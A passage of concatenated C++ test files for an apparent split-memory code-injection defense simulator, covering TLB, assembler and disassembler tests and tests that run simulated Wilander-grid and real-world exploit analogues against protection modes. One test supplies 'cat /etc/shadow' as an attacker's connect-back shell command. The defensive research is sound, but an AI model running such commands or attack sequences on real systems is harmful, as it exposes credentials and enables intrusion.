  const u32 f = pm.alloc_frame();
  pm.unref_frame(f);
  EXPECT_THROW(pm.unref_frame(f), std::logic_error);
}

}  // namespace
}  // namespace sm::arch
