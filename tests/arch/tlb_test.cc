#include "arch/tlb.h"

#include <gtest/gtest.h>

namespace sm::arch {
namespace {

TlbEntry entry(u32 vpn, u32 pfn, bool user = true, bool writable = true) {
  TlbEntry e;
  e.vpn = vpn;
  e.pfn = pfn;
  e.user = user;
  e.writable = writable;
  return e;
}

TEST(Tlb, InsertLookup) {
  Tlb tlb;
  EXPECT_EQ(tlb.lookup(5), nullptr);
  tlb.insert(entry(5, 100));
  const TlbEntry* e = tlb.lookup(5);
  ASSERT_NE(e, nullptr);
  EXPECT_EQ(e->pfn, 100u);
}

TEST(Tlb, EntriesPersistAfterInsertOfOthers) {
  // The paper's core dependency: entries are snapshots that persist.
  Tlb tlb;
  tlb.insert(entry(1, 10));
  tlb.insert(entry(2, 20));
  EXPECT_EQ(tlb.lookup(1)->pfn, 10u);
  EXPECT_EQ(tlb.lookup(2)->pfn, 20u);
}

TEST(Tlb, ReinsertSameVpnReplaces) {
  Tlb tlb;
  tlb.insert(entry(7, 70));
  tlb.insert(entry(7, 71));
  EXPECT_EQ(tlb.lookup(7)->pfn, 71u);
  EXPECT_EQ(tlb.valid_count(), 1u);
}

TEST(Tlb, InvalidateDropsOneVpn) {
  Tlb tlb;
  tlb.insert(entry(3, 30));
  tlb.insert(entry(4, 40));
  tlb.invalidate(3);
  EXPECT_EQ(tlb.lookup(3), nullptr);
  EXPECT_NE(tlb.lookup(4), nullptr);
}

TEST(Tlb, FlushDropsEverything) {
  Tlb tlb;
  for (u32 v = 0; v < 32; ++v) tlb.insert(entry(v, v + 100));
  tlb.flush();
  EXPECT_EQ(tlb.valid_count(), 0u);
}

TEST(Tlb, LruEvictionWithinSet) {
  Tlb tlb(/*num_entries=*/4, /*ways=*/4);  // one set
  for (u32 v = 0; v < 4; ++v) tlb.insert(entry(v, v));
  // Touch 0 so 1 is the LRU.
  EXPECT_NE(tlb.lookup(0), nullptr);
  tlb.insert(entry(9, 9));
  EXPECT_EQ(tlb.lookup(1), nullptr);  // evicted
  EXPECT_NE(tlb.lookup(0), nullptr);
  EXPECT_NE(tlb.lookup(9), nullptr);
}

TEST(Tlb, CapacityEvictionNeverExceedsWays) {
  Tlb tlb(64, 4);
  for (u32 v = 0; v < 1024; v += 16) {
    tlb.insert(entry(v, v));  // all map to set 0
  }
  EXPECT_LE(tlb.valid_count(), 4u);
}

TEST(Tlb, BadGeometryThrows) {
  EXPECT_THROW(Tlb(10, 4), std::invalid_argument);
  EXPECT_THROW(Tlb(24, 4), std::invalid_argument);  // 6 sets: not pow2
  EXPECT_THROW(Tlb(8, 0), std::invalid_argument);
}

TEST(Tlb, PeekDoesNotDisturbLru) {
  Tlb tlb(4, 4);
  for (u32 v = 0; v < 4; ++v) tlb.insert(entry(v, v));
  // Peek 0 (unlike lookup, must not refresh), so 0 is still LRU.
  EXPECT_TRUE(tlb.peek(0).has_value());
  tlb.insert(entry(9, 9));
  EXPECT_EQ(tlb.lookup(0), nullptr);
}

}  // namespace
}  // namespace sm::arch
