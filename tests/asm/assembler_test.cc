#include "asm/assembler.h"

#include <gtest/gtest.h>

#include "arch/isa.h"

namespace sm::assembler {
namespace {

TEST(Assembler, BasicInstructionEncoding) {
  const Program p = assemble(R"(
_start:
  movi r0, 5
  mov r1, r0
  nop
)");
  ASSERT_EQ(p.text.size(), 6u + 3 + 1);
  EXPECT_EQ(p.text[0], 0x01);
  EXPECT_EQ(p.text[1], 0);
  EXPECT_EQ(p.text[2], 5);
  EXPECT_EQ(p.text[6], 0x02);
  EXPECT_EQ(p.text[7], 1);
  EXPECT_EQ(p.text[8], 0);
  EXPECT_EQ(p.text[9], 0x90);
  EXPECT_EQ(p.symbol("_start"), p.layout.text_base);
}

TEST(Assembler, LabelsResolveAcrossSections) {
  const Program p = assemble(R"(
_start:
  movi r1, msg
  jmp done
done:
  ret
.data
msg: .asciz "hi"
)");
  EXPECT_EQ(p.symbol("msg"), p.layout.data_base);
  EXPECT_EQ(p.symbol("done"), p.layout.text_base + 6 + 5);
  // Immediate of movi encodes the data address.
  const arch::u32 imm = p.text[2] | (p.text[3] << 8) | (p.text[4] << 16) |
                        (p.text[5] << 24);
  EXPECT_EQ(imm, p.layout.data_base);
}

TEST(Assembler, ForwardReferences) {
  const Program p = assemble(R"(
  jmp target
  nop
target:
  ret
)");
  const arch::u32 imm = p.text[1] | (p.text[2] << 8) | (p.text[3] << 16) |
                        (p.text[4] << 24);
  EXPECT_EQ(imm, p.layout.text_base + 6);
}

TEST(Assembler, MemOperands) {
  const Program p = assemble(R"(
  load r1, [r2+8]
  store [sp-4], r0
  loadb r3, [fp]
)");
  EXPECT_EQ(p.text[0], 0x03);
  EXPECT_EQ(p.text[1], 1);
  EXPECT_EQ(p.text[2], 2);
  EXPECT_EQ(p.text[3], 8);
  // store [sp-4], r0
  EXPECT_EQ(p.text[7], 0x04);
  EXPECT_EQ(p.text[8], arch::kRegSp);
  EXPECT_EQ(p.text[9], 0);
  EXPECT_EQ(p.text[10], 0xFC);
  EXPECT_EQ(p.text[13], 0xFF);
  // loadb r3, [fp]
  EXPECT_EQ(p.text[14], 0x05);
  EXPECT_EQ(p.text[16], arch::kRegFp);
}

TEST(Assembler, DataDirectives) {
  const Program p = assemble(R"(
.data
bytes: .byte 1, 0x2F, 'A', '\n'
words: .word 0xdeadbeef, bytes
text:  .ascii "a\tb"
ztext: .asciz "x"
gap:   .space 3, 0xEE
)");
  ASSERT_EQ(p.data.size(), 4u + 8 + 3 + 2 + 3);
  EXPECT_EQ(p.data[0], 1);
  EXPECT_EQ(p.data[1], 0x2F);
  EXPECT_EQ(p.data[2], 'A');
  EXPECT_EQ(p.data[3], '\n');
  EXPECT_EQ(p.data[4], 0xEF);
  EXPECT_EQ(p.data[7], 0xDE);
  const arch::u32 w2 = p.data[8] | (p.data[9] << 8) | (p.data[10] << 16) |
                       (p.data[11] << 24);
  EXPECT_EQ(w2, p.symbol("bytes"));
  EXPECT_EQ(p.data[12], 'a');
  EXPECT_EQ(p.data[13], '\t');
  EXPECT_EQ(p.data[15], 'x');
  EXPECT_EQ(p.data[16], 0);
  EXPECT_EQ(p.data[17], 0xEE);
}

TEST(Assembler, BssAndAlign) {
  const Program p = assemble(R"(
.data
a: .byte 1
   .align 4
b: .word 2
.bss
buf:  .space 100
buf2: .space 28
)");
  EXPECT_EQ(p.symbol("b"), p.layout.data_base + 4);
  EXPECT_EQ(p.bss_size, 128u);
  EXPECT_EQ(p.symbol("buf"), p.layout.bss_base);
  EXPECT_EQ(p.symbol("buf2"), p.layout.bss_base + 100);
}

TEST(Assembler, EquConstantsAndExpressions) {
  const Program p = assemble(R"(
.equ SIZE, 64
.equ TWO_SIZE, 128
_start:
  movi r0, SIZE
  movi r1, buf+4
  movi r2, buf-4
.bss
buf: .space SIZE
)");
  EXPECT_EQ(p.text[2], 64);
  const arch::u32 imm1 = p.text[8] | (p.text[9] << 8) | (p.text[10] << 16) |
                         (p.text[11] << 24);
  EXPECT_EQ(imm1, p.symbol("buf") + 4);
}

TEST(Assembler, CommentsAndBlankLines) {
  const Program p = assemble(R"(
; full line comment
# hash comment
_start: nop  ; trailing
  nop        # trailing too
)");
  EXPECT_EQ(p.text.size(), 2u);
}

TEST(Assembler, ErrorsCarryLineNumbers) {
  try {
    assemble("nop\nbogus r1\n");
    FAIL() << "expected AsmError";
  } catch (const AsmError& e) {
    EXPECT_EQ(e.line(), 2);
    EXPECT_NE(std::string(e.what()).find("bogus"), std::string::npos);
  }
}

TEST(Assembler, UndefinedSymbolRejected) {
  EXPECT_THROW(assemble("jmp nowhere\n"), AsmError);
}

TEST(Assembler, DuplicateLabelRejected) {
  EXPECT_THROW(assemble("a: nop\na: nop\n"), AsmError);
}

TEST(Assembler, WrongOperandCountRejected) {
  EXPECT_THROW(assemble("movi r0\n"), AsmError);
  EXPECT_THROW(assemble("ret r0\n"), AsmError);
}

TEST(Assembler, BadRegisterRejected) {
  EXPECT_THROW(assemble("movi r9, 1\n"), AsmError);
  EXPECT_THROW(assemble("mov r0, 42\n"), AsmError);
}

TEST(Assembler, InstructionsInBssRejected) {
  EXPECT_THROW(assemble(".bss\nnop\n"), AsmError);
}

TEST(Assembler, NegativeImmediates) {
  const Program p = assemble("addi r1, -1\n");
  EXPECT_EQ(p.text[2], 0xFF);
  EXPECT_EQ(p.text[5], 0xFF);
}

TEST(Assembler, CustomLayout) {
  Layout layout;
  layout.text_base = 0x40000000;
  layout.data_base = 0x40100000;
  layout.bss_base = 0x40200000;
  const Program p = assemble("_start: nop\n.data\nd: .byte 1\n", layout);
  EXPECT_EQ(p.symbol("_start"), 0x40000000u);
  EXPECT_EQ(p.symbol("d"), 0x40100000u);
}

TEST(Assembler, MultipleLabelsOneLine) {
  const Program p = assemble("a: b: nop\n");
  EXPECT_EQ(p.symbol("a"), p.symbol("b"));
}

TEST(Assembler, HexEscapeInString) {
  const Program p = assemble(".data\ns: .ascii \"\\x90\\x41\"\n");
  ASSERT_EQ(p.data.size(), 2u);
  EXPECT_EQ(p.data[0], 0x90);
  EXPECT_EQ(p.data[1], 0x41);
}

}  // namespace
}  // namespace sm::assembler
