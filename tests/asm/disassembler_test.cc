#include "asm/disassembler.h"

#include <gtest/gtest.h>

#include "asm/assembler.h"

namespace sm::assembler {
namespace {

TEST(Disassembler, RoundTripsCommonInstructions) {
  const Program p = assemble(R"(
  movi r0, 0x5
  mov r1, r0
  load r2, [sp+4]
  store [fp-8], r3
  cmpi r0, 0x7
  jz 0x2000
  call 0x3000
  push r4
  ret
  syscall
  nop
)");
  const auto lines = disassemble(p.text, p.layout.text_base);
  ASSERT_EQ(lines.size(), 11u);
  EXPECT_EQ(lines[0].text, "movi r0, 0x5");
  EXPECT_EQ(lines[1].text, "mov r1, r0");
  EXPECT_EQ(lines[2].text, "load r2, [sp+0x4]");
  EXPECT_EQ(lines[3].text, "store [fp-0x8], r3");
  EXPECT_EQ(lines[4].text, "cmpi r0, 0x7");
  EXPECT_EQ(lines[5].text, "jz 0x2000");
  EXPECT_EQ(lines[6].text, "call 0x3000");
  EXPECT_EQ(lines[7].text, "push r4");
  EXPECT_EQ(lines[8].text, "ret");
  EXPECT_EQ(lines[9].text, "syscall");
  EXPECT_EQ(lines[10].text, "nop");
  EXPECT_EQ(lines[0].addr, p.layout.text_base);
  EXPECT_EQ(lines[1].addr, p.layout.text_base + 6);
}

TEST(Disassembler, InvalidBytesMarkedBad) {
  const std::vector<arch::u8> bytes = {0x00, 0xFF, 0x90};
  const auto lines = disassemble(bytes, 0x1000);
  ASSERT_EQ(lines.size(), 3u);
  EXPECT_EQ(lines[0].text, "(bad)");
  EXPECT_EQ(lines[1].text, "(bad)");
  EXPECT_EQ(lines[2].text, "nop");
}

TEST(Disassembler, TruncatedInstructionIsBad) {
  const std::vector<arch::u8> bytes = {0x01, 0x00};  // movi missing imm
  const auto lines = disassemble(bytes, 0);
  ASSERT_EQ(lines.size(), 2u);
  EXPECT_EQ(lines[0].text, "(bad)");
}

TEST(Disassembler, MaxInstrsLimits) {
  const std::vector<arch::u8> bytes(64, 0x90);
  EXPECT_EQ(disassemble(bytes, 0, 5).size(), 5u);
}

TEST(Disassembler, FormatLooksLikeObjdump) {
  const std::vector<arch::u8> bytes = {0x90};
  const std::string out = format(disassemble(bytes, 0x8048000));
  EXPECT_NE(out.find("08048000:"), std::string::npos);
  EXPECT_NE(out.find("90"), std::string::npos);
  EXPECT_NE(out.find("nop"), std::string::npos);
}

}  // namespace
}  // namespace sm::assembler
