// The paper's combined deployment (§4.2.1): execute-disable for ordinary
// pages + splitting for mixed pages must provide the full security
// envelope across the whole attack corpus — that is the configuration the
// paper recommends for hardware that has the NX bit.
#include <gtest/gtest.h>

#include "attacks/realworld.h"
#include "attacks/wilander.h"

namespace sm::attacks {
namespace {

using core::ProtectionMode;

TEST(CombinedMode, FoilsTheEntireWilanderGrid) {
  for (const auto t : wilander::kAllTechniques) {
    for (const auto s : wilander::kAllSegments) {
      if (!wilander::applicable(t, s)) continue;
      const auto r =
          wilander::run_case(t, s, ProtectionMode::kNxPlusSplitMixed);
      EXPECT_FALSE(r.shell_spawned)
          << wilander::to_string(t) << "/" << wilander::to_string(s);
      EXPECT_TRUE(r.detected)
          << wilander::to_string(t) << "/" << wilander::to_string(s);
    }
  }
}

TEST(CombinedMode, FoilsAllRealWorldExploits) {
  for (const auto e : realworld::kAllExploits) {
    const auto r =
        realworld::run_attack(e, ProtectionMode::kNxPlusSplitMixed);
    EXPECT_FALSE(r.shell_spawned) << realworld::to_string(e);
    EXPECT_TRUE(r.detected) << realworld::to_string(e);
  }
}

TEST(CombinedMode, PageexecFoilsNonMixedCorpusToo) {
  // The software-only execute-disable baseline handles the classic corpus
  // (none of these victims carries mixed pages)...
  for (const auto e : realworld::kAllExploits) {
    const auto r = realworld::run_attack(e, ProtectionMode::kPaxPageexec);
    EXPECT_FALSE(r.shell_spawned) << realworld::to_string(e);
  }
}

TEST(RunAll, GridSummaryShapesMatchTable1) {
  const auto results = wilander::run_all(ProtectionMode::kSplitAll);
  ASSERT_EQ(results.size(), 24u);
  int foiled = 0;
  int na = 0;
  for (const auto& r : results) {
    if (!r.applicable) {
      ++na;
      continue;
    }
    if (r.foiled()) ++foiled;
  }
  EXPECT_EQ(na, 4);
  EXPECT_EQ(foiled, 20);
}

}  // namespace
}  // namespace sm::attacks
