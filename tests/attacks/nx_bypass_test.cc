// The DEP/NX bypass ablation (paper §2, ref [4]): ret-past-the-check into a
// legitimate mmap(RWX)+copy+jump sequence defeats the execute-disable bit
// but not split memory.
#include "attacks/nx_bypass.h"

#include <gtest/gtest.h>

namespace sm::attacks {
namespace {

using core::ProtectionMode;

TEST(NxBypass, DefeatsHardwareNx) {
  const NxBypassResult r = run_nx_bypass(ProtectionMode::kHardwareNx);
  EXPECT_TRUE(r.shell_spawned) << r.detail;
  EXPECT_FALSE(r.detected);  // NX never fires: all fetches were executable
}

TEST(NxBypass, AlsoWorksWithNoProtection) {
  const NxBypassResult r = run_nx_bypass(ProtectionMode::kNone);
  EXPECT_TRUE(r.shell_spawned) << r.detail;
}

TEST(NxBypass, FoiledBySplitMemory) {
  const NxBypassResult r = run_nx_bypass(ProtectionMode::kSplitAll);
  EXPECT_FALSE(r.shell_spawned) << r.detail;
  EXPECT_TRUE(r.detected);
}

TEST(NxBypass, FoiledByCombinedMode) {
  // The paper's combined deployment: NX everywhere, split for mixed pages.
  // The fresh W+X mapping counts as mixed and gets split.
  const NxBypassResult r = run_nx_bypass(ProtectionMode::kNxPlusSplitMixed);
  EXPECT_FALSE(r.shell_spawned) << r.detail;
  EXPECT_TRUE(r.detected);
}

}  // namespace
}  // namespace sm::attacks
