// Table 2: the five real-world exploit analogues succeed unprotected and
// are foiled under split memory; plus the response-mode behaviours of
// Fig. 5 against the WU-FTPD exploit.
#include "attacks/realworld.h"

#include <gtest/gtest.h>

#include "guest/guestlib.h"

namespace sm::attacks::realworld {
namespace {

using core::ProtectionMode;
using core::ResponseMode;

class Exploits : public ::testing::TestWithParam<Exploit> {};

TEST_P(Exploits, RootShellWhenUnprotected) {
  const AttackResult r = run_attack(GetParam(), ProtectionMode::kNone);
  EXPECT_TRUE(r.vulnerability_triggered) << r.detail;
  EXPECT_TRUE(r.shell_spawned) << to_string(GetParam()) << ": " << r.detail;
}

TEST_P(Exploits, FoiledBySplitMemory) {
  const AttackResult r = run_attack(GetParam(), ProtectionMode::kSplitAll);
  EXPECT_TRUE(r.vulnerability_triggered) << r.detail;
  EXPECT_FALSE(r.shell_spawned) << to_string(GetParam()) << ": " << r.detail;
  EXPECT_TRUE(r.detected) << to_string(GetParam());
}

INSTANTIATE_TEST_SUITE_P(Table2, Exploits, ::testing::ValuesIn(kAllExploits),
                         [](const ::testing::TestParamInfo<Exploit>& info) {
                           std::string n = to_string(info.param);
                           for (char& c : n) {
                             if (c == '-') c = '_';
                           }
                           return n;
                         });

TEST(RealWorld, SambaBruteForceTakesMultipleAttempts) {
  const AttackResult r = run_attack(Exploit::kSamba, ProtectionMode::kNone);
  EXPECT_TRUE(r.shell_spawned);
  EXPECT_GE(r.attempts, 1);
  EXPECT_LE(r.attempts, 64);
}

TEST(RealWorld, WuftpdBreakModeStopsTheShell) {
  AttackOptions opts;
  opts.response = ResponseMode::kBreak;
  const AttackResult r =
      run_attack(Exploit::kWuFtpd, ProtectionMode::kSplitAll, opts);
  EXPECT_FALSE(r.shell_spawned);
  EXPECT_TRUE(r.detected);
  EXPECT_EQ(r.victim_exit, kernel::ExitKind::kKilledSigill);
}

TEST(RealWorld, WuftpdObserveModeSpawnsMonitoredShell) {
  AttackOptions opts;
  opts.response = ResponseMode::kObserve;
  opts.attach_sebek = true;
  opts.shell_commands = {"id", "cat /etc/shadow"};
  const AttackResult r =
      run_attack(Exploit::kWuFtpd, ProtectionMode::kSplitAll, opts);
  EXPECT_TRUE(r.detected);
  EXPECT_TRUE(r.shell_spawned);  // attack allowed to continue (Fig. 5b)
  // The attacker's commands came back over the connect-back shell and the
  // Sebek log recorded them (Fig. 5d).
  EXPECT_NE(r.shell_transcript.find("id"), std::string::npos);
  EXPECT_NE(r.sebek_log.find("cat /etc/shadow"), std::string::npos);
}

TEST(RealWorld, WuftpdForensicsModeDumpsNopSled) {
  AttackOptions opts;
  opts.response = ResponseMode::kForensics;
  const AttackResult r =
      run_attack(Exploit::kWuFtpd, ProtectionMode::kSplitAll, opts);
  EXPECT_TRUE(r.detected);
  EXPECT_FALSE(r.shell_spawned);
  // Fig. 5c: the dump of the first shellcode bytes shows the NOPs (0x90).
  EXPECT_NE(r.forensic_dump.find("nop"), std::string::npos);
}

TEST(RealWorld, RecoveryModeWithoutHandlerFallsBackToBreak) {
  // The victims never call SYS_REGISTER_RECOVERY, so recovery mode must
  // degrade to break (kill) rather than resuming the attack.
  AttackOptions opts;
  opts.response = ResponseMode::kRecovery;
  const AttackResult r =
      run_attack(Exploit::kBindTsig, ProtectionMode::kSplitAll, opts);
  EXPECT_TRUE(r.detected);
  EXPECT_FALSE(r.shell_spawned);
  EXPECT_EQ(r.victim_exit, kernel::ExitKind::kKilledSigill);
}

TEST(RealWorld, VictimSourcesAssemble) {
  for (const Exploit e : kAllExploits) {
    EXPECT_NO_THROW(assembler::assemble(guest::program(victim_source(e))))
        << to_string(e);
  }
}

TEST(RealWorld, MetadataTables) {
  for (const Exploit e : kAllExploits) {
    EXPECT_NE(std::string(software(e)), "?");
    EXPECT_NE(std::string(exploit_name(e)), "?");
    EXPECT_NE(std::string(injects_to(e)), "?");
  }
}

}  // namespace
}  // namespace sm::attacks::realworld
