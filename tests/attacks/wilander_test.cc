// Table 1: every applicable Wilander case must SUCCEED on the unprotected
// system (otherwise the benchmark proves nothing) and be FOILED under
// split memory.
#include "attacks/wilander.h"

#include <gtest/gtest.h>

#include "guest/guestlib.h"

namespace sm::attacks::wilander {
namespace {

using core::ProtectionMode;

struct Cell {
  Technique t;
  Segment s;
};

std::vector<Cell> applicable_cells() {
  std::vector<Cell> out;
  for (const Technique t : kAllTechniques) {
    for (const Segment s : kAllSegments) {
      if (applicable(t, s)) out.push_back({t, s});
    }
  }
  return out;
}

class WilanderCell : public ::testing::TestWithParam<Cell> {};

TEST_P(WilanderCell, SucceedsUnprotected) {
  const auto [t, s] = GetParam();
  const CaseResult r = run_case(t, s, ProtectionMode::kNone);
  EXPECT_TRUE(r.shell_spawned)
      << to_string(t) << "/" << to_string(s) << ": " << r.detail;
}

TEST_P(WilanderCell, FoiledBySplitMemory) {
  const auto [t, s] = GetParam();
  const CaseResult r = run_case(t, s, ProtectionMode::kSplitAll);
  EXPECT_FALSE(r.shell_spawned)
      << to_string(t) << "/" << to_string(s) << ": " << r.detail;
  EXPECT_TRUE(r.detected) << to_string(t) << "/" << to_string(s);
  EXPECT_TRUE(r.foiled());
}

INSTANTIATE_TEST_SUITE_P(
    Grid, WilanderCell, ::testing::ValuesIn(applicable_cells()),
    [](const ::testing::TestParamInfo<Cell>& info) {
      std::string name = std::string(to_string(info.param.t)) + "_" +
                         to_string(info.param.s);
      for (char& c : name) {
        if (c == '-') c = '_';
      }
      return name;
    });

TEST(Wilander, GridHasTwentyApplicableCases) {
  EXPECT_EQ(applicable_cells().size(), 20u);  // Table 1: 24 cells, 4 N/A
}

TEST(Wilander, NotApplicableCellsReportNa) {
  const CaseResult r =
      run_case(Technique::kOldBasePointer, Segment::kHeap,
               ProtectionMode::kNone);
  EXPECT_FALSE(r.applicable);
  EXPECT_EQ(r.detail, "N/A");
}

TEST(Wilander, VictimSourcesAssemble) {
  for (const Technique t : kAllTechniques) {
    for (const Segment s : kAllSegments) {
      EXPECT_NO_THROW(assembler::assemble(guest::program(victim_source(t, s))))
          << to_string(t) << "/" << to_string(s);
    }
  }
}

}  // namespace
}  // namespace sm::attacks::wilander
