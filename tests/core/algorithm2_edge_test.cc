// Algorithm 2 edge cases: the single-stepped instruction ITSELF faults
// before the debug trap can fire. Algorithm 2 as printed assumes the
// stepped instruction completes; these tests pin down the required
// behaviour when it doesn't — the open window must still close (PTE
// re-restricted, TF eventually cleared, no pending page leaked) and the
// instruction must still execute exactly once with correct semantics.
#include <gtest/gtest.h>

#include "support/guest_runner.h"

namespace sm {
namespace {

using arch::u32;
using core::ProtectionMode;
using testing::start_guest;

u32 page_of(u32 va) { return va & ~0xFFFu; }

arch::Pte pte_at(testing::GuestRun& r, u32 va) {
  return r.proc().as->pt().get(va);
}

// Live registers: while a process occupies the CPU its Process::regs copy
// is stale, so go through the kernel's context-aware accessor.
arch::Regs& live_regs(testing::GuestRun& r) {
  return r.k->regs_of(r.proc());
}

// A 6-byte movi whose bytes straddle a page boundary, where the straddled
// page pair is fresh: the fetch of the first half opens page P1's window,
// and the fetch of the second half faults on restricted P2 *during the
// step*. retire_stale_pending must close P1's window when P2's opens;
// the debug trap then closes P2's.
TEST(Algorithm2Edge, StraddlingFetchClosesBothWindows) {
  const char* body = R"(
_start:
  jmp go
  .space 8184, 0x90
go:
  movi r1, 7        ; 6 bytes at page offset 4093: straddles P1 -> P2
done:
  jmp done
)";
  const auto program = assembler::assemble(guest::program(body));
  const u32 go = program.symbol("go");
  ASSERT_GT((go & 0xFFF) + 6, 4096u) << "layout drifted; not a straddle";

  auto r = start_guest(body, ProtectionMode::kSplitAll);
  r.k->run(100'000);

  // The straddling instruction executed exactly once, correctly.
  EXPECT_EQ(live_regs(r).r[1], 7u);
  // Both pages' windows are closed...
  const arch::Pte p1 = pte_at(r, go);
  const arch::Pte p2 = pte_at(r, page_of(go) + arch::kPageSize);
  ASSERT_TRUE(p1.present());
  ASSERT_TRUE(p2.present());
  EXPECT_FALSE(p1.user()) << "first straddled page left unrestricted";
  EXPECT_FALSE(p2.user()) << "second straddled page left unrestricted";
  // ...and no bookkeeping leaked out of the double-fault.
  EXPECT_FALSE(r.proc().pending_split_vaddr.has_value());
  EXPECT_FALSE(live_regs(r).tf());
}

// Footnote-1 torture: every kernel-initiated D-TLB fill fails, so the
// stepped first instruction of a fresh text page data-faults mid-step on a
// fresh bss page, and the data fault ALSO takes the single-step fallback.
// Two nested windows; both must close, and the store must still land.
TEST(Algorithm2Edge, MidStepDataFaultUnderWalkFailure) {
  const char* body = R"(
_start:
  movi r4, buf
  movi r5, 123
  jmp far
  .space 4079, 0x90
far:
  store [r4], r5    ; first instruction of its page; data access mid-step
  load r1, [r4]
done:
  jmp done
.bss
buf: .space 64
)";
  const auto program = assembler::assemble(guest::program(body));
  const u32 far_va = program.symbol("far");
  const u32 buf = program.symbol("buf");
  ASSERT_EQ(far_va & 0xFFF, 0u) << "layout drifted; 'far' must start a page";

  auto r = start_guest(body, ProtectionMode::kSplitAll);
  r.k->mmu().set_walk_failure_period(1);  // every walk-fill fails
  r.k->run(100'000);

  // The store completed once and is visible through the data view.
  EXPECT_EQ(live_regs(r).r[1], 123u);
  EXPECT_GT(r.k->stats().split_dtlb_fallbacks, 0u);
  // Both the text page (closed by retire-stale when the data window
  // opened) and the bss page (closed by the debug trap) are restricted.
  const arch::Pte text_pte = pte_at(r, far_va);
  const arch::Pte data_pte = pte_at(r, buf);
  ASSERT_TRUE(text_pte.present());
  ASSERT_TRUE(data_pte.present());
  EXPECT_FALSE(text_pte.user()) << "stepped text page left unrestricted";
  EXPECT_FALSE(data_pte.user()) << "fallback data page left unrestricted";
  EXPECT_FALSE(r.proc().pending_split_vaddr.has_value());
  EXPECT_FALSE(live_regs(r).tf());
}

// Regression test for the mid-step window channel the differential fuzzer
// exposed: on a writable (mixed) page, the first stepped instruction of
// the page stores INTO its own page. Without the engine's D-TLB pre-fill,
// that store hardware-walks the momentarily unrestricted PTE — which
// points at the CODE frame during the window — so the write lands in
// executed code and vanishes from the data view.
TEST(Algorithm2Edge, MidStepSamePageStoreHitsTheDataFrame) {
  const char* body = R"(
_start:
  movi r4, cell
  movi r5, 0x5A
  jmp far
  .space 4079, 0x90
far:
  storeb [r4], r5   ; stepped instruction writes its own (mixed) page
  loadb r1, [r4]    ; data view must see the store
done:
  jmp done
cell: .byte 0
)";
  const auto program = assembler::assemble(guest::program(body));
  ASSERT_EQ(program.symbol("far") & 0xFFF, 0u);
  ASSERT_EQ(page_of(program.symbol("cell")), page_of(program.symbol("far")))
      << "layout drifted; cell must share the stepped page";

  testing::GuestRun r;
  r.k = std::make_unique<kernel::Kernel>();
  r.k->set_engine(core::make_engine(ProtectionMode::kSplitAll));
  r.k->register_image(
      testing::build_guest_image(body, "guest", /*mixed_text=*/true));
  r.pid = r.k->spawn("guest");
  r.k->run(100'000);

  EXPECT_EQ(live_regs(r).r[1], 0x5Au)
      << "store leaked into the code frame during the single-step window";
  const arch::Pte pte = pte_at(r, program.symbol("far"));
  ASSERT_TRUE(pte.present());
  EXPECT_FALSE(pte.user());
  EXPECT_FALSE(r.proc().pending_split_vaddr.has_value());
  EXPECT_FALSE(live_regs(r).tf());
}

}  // namespace
}  // namespace sm
