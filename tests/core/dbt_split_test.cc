// The basic-block engine under the split-memory protocol: a block
// dispatch must coexist with every per-instruction mechanism the paper's
// algorithms rely on — D-TLB fill windows opening mid-block (Algorithm
// 1's data fault arrives from inside a cached block and must roll back
// to a restartable boundary), trap-flag single-step windows (Algorithm
// 2 runs per-instruction by definition, so the kernel must bypass
// blocks while TF is up), footnote-1 walk-failure fallbacks, and
// restrict/unrestrict transitions on pages whose blocks are cached.
// The closing contract: a split-protected run's simulated stats are
// bit-identical with the engine on and off.
#include <gtest/gtest.h>

#include <tuple>

#include "arch/block_cache.h"  // SM_DBT_ENABLED
#include "support/guest_runner.h"

namespace sm {
namespace {

using arch::u32;
using arch::u64;
using core::ProtectionMode;
using testing::start_guest;

arch::Regs& live_regs(testing::GuestRun& r) {
  return r.k->regs_of(r.proc());
}

// A store-heavy loop: the stores are mid-block (never a jump target), so
// the first D-TLB fill of `buf`'s page arrives as a fault from INSIDE a
// cached block.
constexpr const char* kStoreLoop = R"(
_start:
  movi r4, buf
  movi r0, 0
loop:
  addi r0, 1
  store [r4], r0    ; mid-block data access to a split page
  load r2, [r4]
  cmpi r0, 40
  jlt loop
done:
  jmp done
.bss
buf: .space 64
)";

TEST(DbtSplit, FillWindowOpeningMidBlockExitsToSingleStep) {
  auto r = start_guest(kStoreLoop, ProtectionMode::kSplitAll);
  r.k->run(200'000);

  // The loop completed with per-instruction store/load semantics.
  EXPECT_EQ(live_regs(r).r[0], 40u);
  EXPECT_EQ(live_regs(r).r[2], 40u);
  EXPECT_EQ(r.k->stats().injections_detected, 0u);
  // Split machinery actually engaged: D-TLB loads serviced, Algorithm 2
  // windows opened and stepped through...
  EXPECT_GT(r.k->stats().split_dtlb_loads, 0u);
  EXPECT_GT(r.k->stats().single_steps, 0u);
  // ...and the block engine was still in play around them (unless this
  // build compiled it out: the split assertions above hold either way).
#if SM_DBT_ENABLED
  EXPECT_GT(r.k->stats().block_cache_hits, 0u);
  EXPECT_GT(r.k->stats().block_instructions, 0u);
#endif
  EXPECT_FALSE(live_regs(r).tf()) << "a single-step window leaked";
}

TEST(DbtSplit, CachedBlocksSurviveRestrictUnrestrictTransitions) {
  // Every kernel D-TLB fill fails into the footnote-1 fallback: each
  // store/load degrades to a single-step window, so the data page cycles
  // restrict -> unrestrict -> restrict every iteration WHILE the loop's
  // blocks sit in the cache. Blocks are keyed on the code frame's
  // physical address, which the transitions do not move, so they must
  // survive and stay coherent.
  auto r = start_guest(kStoreLoop, ProtectionMode::kSplitAll);
  r.k->mmu().set_walk_failure_period(1);
  r.k->run(400'000);

  EXPECT_EQ(live_regs(r).r[0], 40u);
  EXPECT_EQ(live_regs(r).r[2], 40u);
  EXPECT_GT(r.k->stats().split_dtlb_fallbacks, 0u)
      << "walk failures never exercised the fallback path";
#if SM_DBT_ENABLED
  EXPECT_GT(r.k->stats().block_cache_hits, 0u);
#endif
  EXPECT_EQ(r.k->stats().injections_detected, 0u);
  // The loop's text page ends restricted (windows all closed).
  const auto program = assembler::assemble(guest::program(kStoreLoop));
  const arch::Pte pte = r.proc().as->pt().get(program.symbol("loop"));
  ASSERT_TRUE(pte.present());
  EXPECT_FALSE(pte.user()) << "text page left unrestricted";
  EXPECT_FALSE(live_regs(r).tf());
}

// Simulated stats that must not move when the host-side block engine is
// toggled. Everything except the block/decode/memo fast-path counters.
auto sim_stats(const metrics::Stats& s) {
  return std::tuple{
      s.cycles,          s.instructions,      s.itlb_hits,
      s.itlb_misses,     s.dtlb_hits,         s.dtlb_misses,
      s.tlb_flushes,     s.hardware_walks,    s.page_faults,
